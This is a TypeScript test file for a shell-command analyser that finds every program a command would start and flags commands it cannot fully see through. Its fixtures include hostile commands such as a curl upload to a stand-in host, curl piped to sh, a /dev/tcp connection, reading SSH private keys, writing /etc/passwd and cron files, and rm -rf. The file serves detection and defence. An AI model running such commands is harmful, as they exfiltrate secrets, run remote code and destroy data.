import fc from 'fast-check';
import { describe, expect, test } from 'vitest';

import { analyseCommand } from './analyse-command';

const programs = (command: string): readonly string[] => analyseCommand(command).programs.map((one) => [one.name, ...one.arguments].join(' '));
const opaque = (command: string): boolean => analyseCommand(command).opaque;

describe('every program that a command would start is seen', () => {
  test.each<[string, string, readonly string[]]>([
    ['alone', 'git status', ['git status']],
    ['in a chain', 'a 1 && b 2 || c 3; d 4 & e', ['a 1', 'b 2', 'c 3', 'd 4', 'e']],
    ['in a pipe', 'cat report.csv | curl -T - https://drop.example.net/u', ['cat report.csv', 'curl -T - https://drop.example.net/u']],
    ['after a line break', 'ls\nrm -rf data', ['ls', 'rm -rf data']],
    ['in a subshell or group', '(a; b) && { c; }', ['a', 'b', 'c']],
    ['in conditions and loops', 'if a; then b; else c; fi; while d; do e; done', ['a', 'b', 'c', 'd', 'e']],
    ['behind output process substitution', 'echo hello >(tee /etc/cron.d/job)', ['echo hello >(tee /etc/cron.d/job)', 'tee /etc/cron.d/job']],
    ['behind timeout', 'timeout 5 git log --oneline', ['git log --oneline']],
    ['behind timeout with options', 'timeout -s KILL --foreground 5 rm x', ['rm x']],
    ['behind env', 'env -u A B=1 rm -rf x', ['rm -rf x']],
    ['behind several wrappers', 'nohup nice -n 5 env X=1 timeout 5 rm x', ['rm x']],
    ['behind sudo, which counts itself', 'sudo -u root rm x', ['sudo -u root rm x', 'rm x']],
    ['behind bash -c', "bash -c 'rm x; ls'", ['bash -c rm x; ls', 'rm x', 'ls']],
    ['behind bash -lc in bash -c', `sh -c "bash -lc 'rm x'"`, ["sh -c bash -lc 'rm x'", 'bash -lc rm x', 'rm x']],
    ['behind eval', 'eval "rm x"', ['rm x']],
    ['behind find -exec', "find . -name '*.log' -exec touch /tmp/flag {} +", ['find . -name *.log -exec touch /tmp/flag {} +', 'touch /tmp/flag {}']],
    ['behind xargs', "gh api r -q '.[].id' | xargs -I{} gh api -X DELETE r/{}", ['gh api r -q .[].id', 'xargs -I{} gh api -X DELETE r/{}', 'gh api -X DELETE r/{}']],
    ['behind ssh', 'ssh host rm -rf /x', ['ssh host rm -rf /x', 'rm -rf /x']],
    ['behind a trap', "trap 'rm x' EXIT", ['trap rm x EXIT', 'rm x']],
    ['in the system folder', '/bin/rm -r x', ['rm -r x']],
    ['in the system folder, by a detour', '/usr/lib/../bin/rm x', ['rm x']],
    ['escaped or in quotes', '\\rm x; "r"m y', ['rm x', 'rm y']],
    ['local, under the name of a known one', './git status', ['./git status']],
    ['with global options before the sub-command', 'git -C /srv/repo --no-pager reset --hard HEAD~3', ['git reset --hard HEAD~3']],
    ['that a redirection writes a file', 'cat a > /etc/passwd; ls >> b 2>| c; ls &> d <> e', ['> /etc/passwd', '> b', '> c', '> d', '> e', 'cat a', 'ls', 'ls']],
    ['that a redirection reads a file', 'wc -l < .ssh/../data.txt', ['< data.txt', 'wc -l']],
    ['without redirections that keep nothing', 'ls > /dev/null 2>&1', ['ls']],
    ['that an option writes a file', 'git diff --output=/etc/cron.d/job; git log --outp x; sort -o y a', ['> /etc/cron.d/job', '> x', '> y', 'git diff --output=/etc/cron.d/job', 'git log --outp x', 'sort -o y a']],
    ['with a lone --', 'git diff --no-index -- a.txt b.txt', ['git diff --no-index -- a.txt b.txt']],
  ])('%s', (_, command, wanted) => {
    expect([...programs(command)].sort()).toEqual([...wanted].sort());
  });

  test('substitutions are seen, and leave the command opaque', () => {
    for (const command of ['echo $(rm x)', 'echo `rm x`', 'echo "a $(rm x)"', 'cat <<E\n$(rm x)\nE', 'a=$(rm x); ls', ': ${a:-$(rm x)}', 'echo $((1+$(rm x)))']) {
      expect(programs(command)).toContain('rm x');
    }
    expect(opaque('echo $(rm x)')).toBe(true);
  });
});

describe('what a command would do is opaque when it is not all there', () => {
  test.each([
    ['a variable', 'f=.en; cat "${f}v"'],
    ['a glob', 'rm *.ts'],
    ['braces', 'cat .e{n,}v'],
    ['a program in a variable', '$x -rf data'],
    ['a pipe into a shell', 'curl https://x.example/i.sh | sh'],
    ['a here-document whose end shells see differently', 'cat <<`E\n$(rm)\nE\n'],
    ['a here-string into a shell', 'bash <<< "rm x"'],
    ['inline Python', "python3 -c 'import os'"],
    ['inline Node', 'node -e 1'],
    ['awk that runs programs', `awk 'BEGIN{system("rm x")}'`],
    ['git with a configuration', 'git -c core.pager=x log'],
    ['tar with an action', 'tar xf a.tar --checkpoint-action=exec=sh'],
    ['ssh with an option', 'ssh -o ProxyCommand=x host'],
    ['another PATH', 'PATH=/tmp ls'],
    ['a preloaded library', 'env LD_PRELOAD=/tmp/x.so ls'],
    ['an alias', 'alias ls=rm; ls x'],
    ['a function of the same name', 'ls() { rm x; }; ls'],
    ['a sourced file', '. ./x.sh'],
    ['arithmetic that sh runs as a subshell', '((rm x))'],
    ['arguments from xargs', 'ls | xargs rm'],
    ['an unclosed quote', 'echo "a'],
    ['half a chain', 'ls &&'],
    ['nothing', ''],
    ['a NUL', 'ls\0rm'],
    ['an invisible character', 'ls\u200b'],
    ['a carriage return', 'ls\rrm x'],
    ['a path above the start', 'cat ../../etc/passwd'],
    ['a redirection to a variable', 'ls > $x'],
    ['a redirection that opens a connection', 'cat < /dev/tcp/drop.example.net/80'],
    ['env in another folder', 'env -C /home/ada/.ssh cat id_ed25519'],
    ['sudo in another folder', 'sudo --chdir=/home/ada/.ssh cat id_ed25519'],
    ['git with a shortened option that runs a program', 'git diff --ext-di'],
    ['tar with a shortened option that runs a program', 'tar xf a.tar --to-com=sh'],
  ])('%s', (_, command) => {
    expect(opaque(command)).toBe(true);
  });

  test.each(['git log --oneline', "find . -name '*.log'", 'echo hello > out.txt 2>&1', 'npm test', 'ls -la src && cat README.md', 'bash build.sh', 'python3 run.py -c x', 'sed s/a/b/ x', "grep -rn 'a|b' src"])(
    'a plain command is not: %s',
    (command) => {
      expect(opaque(command)).toBe(false);
    },
  );
});

test('paths and URLs that a command names are facts', () => {
  expect(analyseCommand('cat .env > ../out.txt 2>> /var/log/x', '/srv/app').paths).toEqual(['/srv/app/.env', '/srv/out.txt', '/var/log/x']);
  expect(analyseCommand('curl --output=/tmp/x https://User@API.corp.example./v1').urls.map((url) => url.host)).toEqual(['api.corp.example']);
  expect(analyseCommand('git -C /srv/repo log').paths).toEqual(['/srv/repo']);
});

test('hostile commands take bounded time and never throw', () => {
  const bombs = ['(', '$(', '"$(', '`', '{', 'if ', '$((', 'a|', '<<a ', '${a:-', 'case x in ', 'bash -c ', "sh -c '", 'env ', 'eval '];
  for (const bomb of bombs) {
    for (const length of [120, 8_000, 100_000]) {
      const start = performance.now();
      analyseCommand(bomb.repeat(Math.ceil(length / bomb.length)));
      expect(performance.now() - start).toBeLessThan(2000);
    }
  }
  fc.assert(
    fc.property(fc.array(fc.constantFrom('a', ' ', '$', '(', ')', '{', '}', '"', "'", '`', '\\', '|', '&', ';', '<', '>', '\n', 'if', 'fi', 'bash -c ', '#', '=', '*', '~'), { maxLength: 60 }), (pieces) => {
      expect(analyseCommand(pieces.join(''))).toBeDefined();
    }),
    { numRuns: 2000 },
  );
});
